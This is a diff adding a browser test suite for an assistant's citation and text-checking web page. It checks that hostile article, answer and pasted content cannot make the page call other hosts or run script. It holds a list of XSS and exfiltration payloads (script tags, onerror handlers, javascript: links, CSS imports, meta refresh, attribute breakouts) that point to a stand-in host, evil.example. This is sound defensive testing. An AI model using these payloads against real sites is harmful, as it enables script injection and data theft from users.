@@ -1,0 +1,171 @@
+"""A canary: whatever an article, a model or a pasted text contains, the page asks no other host."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from dataclasses import replace
+from datetime import date
+from urllib.parse import urlsplit
+
+import pytest
+from web.fakes import ARTICLES, Line, hits
+
+from assistant.types import Article, Citation, Json, Passage, Quote
+
+from .conftest import Served, Visit
+
+pytestmark = pytest.mark.browser
+
+EVIL = "http://evil.example"
+HOSTILE = [
+    f'<img src="{EVIL}/img.png">',
+    f"![picture]({EVIL}/markdown.png?q=secret)",
+    f"![picture][ref]\n\n[ref]: {EVIL}/reference.png",
+    f"[click here]({EVIL}/link)",
+    f"<{EVIL}/auto>",
+    f"<script src={EVIL}/script.js></script>",
+    "<script>window.hacked = 1; alert(1)</script>",
+    '<img src=x onerror="window.hacked = 2; alert(2)">',
+    '<svg onload="window.hacked = 3"><use href="//evil.example/x.svg#a"/></svg>',
+    "[js](javascript:window.hacked=4)",
+    f'<div style="background:url({EVIL}/css.png)">x</div>',
+    f'<style>@import "{EVIL}/style.css"; body {{ display: none }}</style>',
+    f'<iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/object"></object><embed src="{EVIL}/embed">',
+    f'<link rel="stylesheet" href="{EVIL}/sheet.css">',
+    f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
+    f'<form action="{EVIL}/form"><input name=a autofocus onfocus="window.hacked = 5"></form>',
+    f'<video poster="{EVIL}/poster.png" src="{EVIL}/video.mp4"></video>',
+    f'<audio src="{EVIL}/audio.mp3" autoplay></audio>',
+    '"><img src=//evil.example/attribute.png onerror=window.hacked=6>',
+    "' onmouseover='window.hacked=7' x='",
+    "{{7*7}} {% raw %} ${window.hacked = 8} </textarea></template><img src=//evil.example/template.png>",
+    "```html\n<img src=//evil.example/fence.png>\n```",
+    f"| a | b |\n|---|---|\n| ![t]({EVIL}/table.png) | <img src={EVIL}/cell.png> |",
+    "$$\\href{http://evil.example/katex}{x} \\includegraphics{http://evil.example/katex.png}$$",
+]
+TEXT = "\n\n".join(HOSTILE)
+ACTING = """() => [
+  ...document.querySelectorAll('.turns *, .welcome *, #past *, #sources *, #reader *')].filter((e) =>
+  /^(img|script|style|link|iframe|object|embed|video|audio|form|input|meta|use|base)$/i.test(e.tagName)
+    && !e.matches('form.correction')
+  || [...e.attributes].some((a) => a.name.startsWith('on') || a.name === 'src'
+    || (a.name === 'style' && !e.matches('.note')) || (a.name === 'href' && !/^https?:/.test(a.value)))
+).map((e) => e.outerHTML.slice(0, 200))"""
+"""Elements that could fetch, run or send something."""
+
+
+@pytest.fixture
+def hostile(served: Served):  # type: ignore[no-untyped-def]
+    """The desk with an article, an answer and a check that try everything."""
+    desk = served.desk
+    article = Article(
+        name='x"><img src=//evil.example/name.png>.md', text=TEXT, title=f"Title {HOSTILE[0]} {HOSTILE[6]}",
+        language='fr" onload="x', digest="2" * 64, published=date(2025, 1, 1), publisher=HOSTILE[7],
+        author=HOSTILE[8], url="javascript:window.hacked=9",
+    )  # fmt: skip
+    quotes = [
+        Quote(article.name, TEXT.index(words), TEXT.index(words) + len(words), words, 2) for words in HOSTILE
+    ]
+    hit = replace(
+        hits()[0], rank=3, passage=Passage("p3", article.name, 0, len(TEXT), HOSTILE[0]), text=TEXT,
+        title=article.title, publisher=article.publisher, url=article.url, language=article.language,
+        also_in=(HOSTILE[7],),
+    )  # fmt: skip
+    lines = [
+        Line(words, "supported", (quote,), before="\n\n")
+        for words, quote in zip(HOSTILE, quotes, strict=True)
+    ]
+    lines += [Line(words, "unsupported", (), (words,), (quotes[0],), "\n\n") for words in HOSTILE]
+    lines += [Line(words, "partial", (quotes[1],), (words,), (quotes[2],), " ") for words in HOSTILE]
+    found = desk.found
+    desk.found = (*hits(), hit)
+    desk.scripts["hostile"] = lines
+    desk.articles_by_name[article.name] = article
+    desk.checked = lambda text: _check(text, quotes, hit.title)
+    yield desk
+    desk.found, desk.checked = found, None
+    desk.scripts.clear()
+    desk.articles_by_name = dict(ARTICLES)
+
+
+def _check(text: str, quotes: list[Quote], title: str) -> Json:
+    cited = [
+        Citation(n, quote, title, None, "data:text/html,x").as_json() for n, quote in enumerate(quotes, 1)
+    ]
+    nearest = [quotes[0].as_json()]
+    sentence = {
+        "start": 0,
+        "end": len(text),
+        "citations": [1],
+        "verdict": "unsupported",
+        "reasons": HOSTILE,
+        "nearest": nearest,
+    }
+    conflict = {
+        "about": HOSTILE[0],
+        "sides": [{"value": HOSTILE[7], "citation": 1}, {"value": HOSTILE[6], "citation": 2}],
+    }
+    return {
+        "text": text,
+        "language": "fr",
+        "sentences": [sentence],
+        "citations": cited,
+        "conflicts": [conflict],
+    }
+
+
+def assert_harmless(seen: Visit) -> None:
+    page = seen.page
+    page.wait_for_timeout(500)
+    hosts = {urlsplit(url).hostname for url in seen.requests if not url.startswith(("data:", "blob:"))}
+    assert hosts == {"127.0.0.1"}
+    assert seen.complaints == []
+    assert page.evaluate("window.hacked") is None
+    found = page.evaluate(ACTING)
+    assert found == []
+
+
+def test_a_hostile_article_and_answer(visit: Callable[..., Visit], hostile: object) -> None:
+    seen = visit()
+    seen.ask_to_the_end(f"hostile {HOSTILE[0]} {HOSTILE[7]}")
+    page = seen.page
+    assert page.locator("#conversation .citation").count() > 10
+    page.locator("#sources details").evaluate_all("all => all.forEach(d => d.open = true)")
+    page.locator("#conversation details").evaluate_all("all => all.forEach(d => d.open = true)")
+    page.locator(".answer .citation").first.click()
+    page.locator("#reader mark.cited").first.wait_for()
+    assert page.locator("#reader mark.cited").first.inner_text() == HOSTILE[0]
+    assert HOSTILE[6] in page.locator("#reader .text").inner_text()
+    page.locator(".answer del.sentence").first.focus()
+    assert_harmless(seen)
+    page.locator("#past summary").click()
+    page.locator("#past li button").first.wait_for()
+    assert_harmless(seen)
+    page.locator("#past li button").first.click()
+    page.locator('.turn[data-state="done"]').first.wait_for()
+    assert_harmless(seen)
+
+
+def test_a_hostile_pasted_text(visit: Callable[..., Visit], hostile: object) -> None:
+    seen = visit()
+    seen.page.get_by_role("tab", name="Vérifier un texte").click()
+    seen.page.fill("#check-text textarea", TEXT)
+    seen.page.click("#check")
+    seen.page.locator("#checked del.sentence").first.wait_for()
+    seen.page.locator("#checked .citation").first.click()
+    seen.page.locator("#reader mark.cited").first.wait_for()
+    assert_harmless(seen)
+
+
+def test_only_plain_addresses_can_be_followed(visit: Callable[..., Visit]) -> None:
+    seen = visit()
+    seen.ask_to_the_end("budget")
+    links = seen.page.locator("#sources a, #reader a, #conversation a")
+    assert {link.get_attribute("href") for link in links.all()} == {"https://journal.example/2024/budget?x=1"}
+    assert {link.get_attribute("rel") for link in links.all()} == {"noopener noreferrer nofollow"}
+
+
+def test_the_page_itself_asks_only_this_machine(visit: Callable[..., Visit]) -> None:
+    seen = visit()
+    seen.page.wait_for_timeout(1000)
+    assert_harmless(seen)
